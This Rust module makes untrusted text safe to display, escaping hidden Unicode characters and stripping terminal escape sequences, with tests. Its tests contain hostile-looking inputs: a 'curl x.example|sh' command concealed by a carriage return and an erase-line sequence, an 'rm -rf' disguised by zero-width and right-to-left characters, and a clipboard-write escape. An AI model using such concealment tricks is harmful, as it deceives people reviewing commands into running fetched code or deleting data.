//! Foreign text made safe to look at: nothing hidden, nothing that a terminal obeys (A078, A091).

use rookery_messages::tool::head;

/// Most bytes of an approver's replacement (V-H12).
pub const MAX_REPLACEMENT_BYTES: usize = 65_536;

/// Whether a character shows nothing, or changes how its neighbours are shown: controls, zero-width and
/// bidirectional formatting, line separators, fillers, tags. Variation selectors 15 and 16 are left out:
/// emoji need them.
pub fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0d}' | '\u{feff}'
            | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{1d173}'..='\u{1d17a}'
            | '\u{e0000}'..='\u{e0fff}')
}

/// `text` on one line, each hidden character written as its escape.
pub fn visible(text: &str) -> String {
    escape(text, |_| false)
}

/// Like [`visible`], but newlines and tabs stay.
pub fn visible_lines(text: &str) -> String {
    escape(text, |c| matches!(c, '\n' | '\t'))
}

fn escape(text: &str, keep: impl Fn(char) -> bool) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            c if !is_hidden(c) || keep(c) => shown.push(c),
            '\n' => shown.push_str("\\n"),
            '\r' => shown.push_str("\\r"),
            '\t' => shown.push_str("\\t"),
            c => shown.push_str(&format!("\\u{{{:x}}}", u32::from(c))),
        }
    }
    shown
}

/// An approver's replacement, cleaned: escape sequences go whole, other controls but newline, return and
/// tab go, and at most [`MAX_REPLACEMENT_BYTES`] stay, cut on a character boundary (V-H12).
pub fn clean_replacement(text: &str) -> String {
    let mut clean = String::with_capacity(text.len().min(MAX_REPLACEMENT_BYTES + 4));
    let mut rest = text.chars().peekable();
    while let Some(c) = rest.next() {
        if clean.len() > MAX_REPLACEMENT_BYTES {
            break;
        }
        match c {
            '\u{1b}' => skip_escape(&mut rest),
            '\u{9b}' => skip_csi(&mut rest),
            '\u{90}' | '\u{98}' | '\u{9d}'..='\u{9f}' => skip_string(&mut rest),
            '\n' | '\r' | '\t' => clean.push(c),
            c if c.is_control() => {}
            c => clean.push(c),
        }
    }
    head(&clean, MAX_REPLACEMENT_BYTES).to_owned()
}

type Rest<'a> = std::iter::Peekable<std::str::Chars<'a>>;

/// After ESC (ECMA-48, section 5.3): a control sequence, a control string, or a short escape.
fn skip_escape(rest: &mut Rest<'_>) {
    match rest.peek() {
        Some('[') => {
            rest.next();
            skip_csi(rest);
        }
        Some(']' | 'P' | 'X' | '^' | '_') => {
            rest.next();
            skip_string(rest);
        }
        _ => {
            while rest.next_if(|c| matches!(c, ' '..='/')).is_some() {}
            rest.next_if(|c| matches!(c, '0'..='~'));
        }
    }
}

/// Parameters, intermediates, one final byte. A sequence that breaks off takes no text with it.
fn skip_csi(rest: &mut Rest<'_>) {
    while rest.next_if(|c| matches!(c, '0'..='?')).is_some() {}
    while rest.next_if(|c| matches!(c, ' '..='/')).is_some() {}
    rest.next_if(|c| matches!(c, '@'..='~'));
}

/// Up to BEL or ST. One that is never closed ends with its line.
fn skip_string(rest: &mut Rest<'_>) {
    while let Some(&c) = rest.peek() {
        match c {
            '\n' | '\r' => return,
            '\u{7}' | '\u{9c}' => {
                rest.next();
                return;
            }
            '\u{1b}' => {
                rest.next();
                rest.next_if_eq(&'\\');
                return;
            }
            _ => {
                rest.next();
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    // A078, A091
    #[test]
    fn what_hides_or_moves_text_is_shown_as_its_escape() {
        let overwritten = "curl x.example|sh\r\u{1b}[2K   command: ls -la";
        assert_eq!(visible(overwritten), "curl x.example|sh\\r\\u{1b}[2K   command: ls -la");
        assert_eq!(visible("r\u{200b}m -rf x"), "r\\u{200b}m -rf x");
        assert_eq!(visible("ls \u{202e} fr- mr"), "ls \\u{202e} fr- mr");
        assert_eq!(visible("a\u{1b}]52;c;eA==\u{7}b"), "a\\u{1b}]52;c;eA==\\u{7}b");
        assert_eq!(visible("one\ntwo\tthree"), "one\\ntwo\\tthree");
        assert_eq!(visible_lines("one\ntwo\tthree\r"), "one\ntwo\tthree\\r");
        assert_eq!(visible("Grüße ☕️ 你好"), "Grüße ☕️ 你好");
    }

    // V-H12
    #[test]
    fn a_replacement_loses_its_escape_sequences_whole_and_keeps_its_lines() {
        let cases = [
            ("a\u{1b}[31;1mred\u{1b}[0m b", "ared b"),
            ("\u{1b}]0;title\u{7}text", "text"),
            ("\u{1b}]8;;http://x\u{1b}\\link\u{1b}]8;;\u{1b}\\", "link"),
            ("\u{1b}Pq#0\u{1b}\\after", "after"),
            ("\u{1b}(Bok\u{1b}=ok", "okok"),
            ("\u{9b}2Jclear", "clear"),
            ("\u{1b}]never closed\nnext line", "\nnext line"),
            ("line\r\nnext\ttab\u{0}\u{8}\u{7f}\u{85}", "line\r\nnext\ttab"),
            ("cut\u{1b}", "cut"),
            ("cut\u{1b}[3", "cut"),
        ];
        for (raw, clean) in cases {
            assert_eq!(clean_replacement(raw), clean, "{raw:?}");
        }
    }

    // V-H12
    #[test]
    fn a_long_replacement_is_cut_on_a_character_boundary() {
        let clean = clean_replacement(&"é€😀".repeat(22_000));
        assert!(clean.len() <= MAX_REPLACEMENT_BYTES && clean.len() > MAX_REPLACEMENT_BYTES - 4);
    }

    proptest! {
        // V-H12, A136
        #[test]
        fn no_replacement_keeps_a_control_or_breaks_the_bound(text in "(\\PC|\\x1b|\\x9b|[\\[\\]0-9;m\\x07\\n\\r\\t\\x00]){0,400}") {
            let clean = clean_replacement(&text);
            prop_assert!(clean.len() <= MAX_REPLACEMENT_BYTES);
            prop_assert!(clean.chars().all(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t')));
        }

        // A078
        #[test]
        fn visible_text_holds_nothing_hidden(text in any::<String>()) {
            prop_assert!(!visible(&text).chars().any(is_hidden));
        }
    }
}
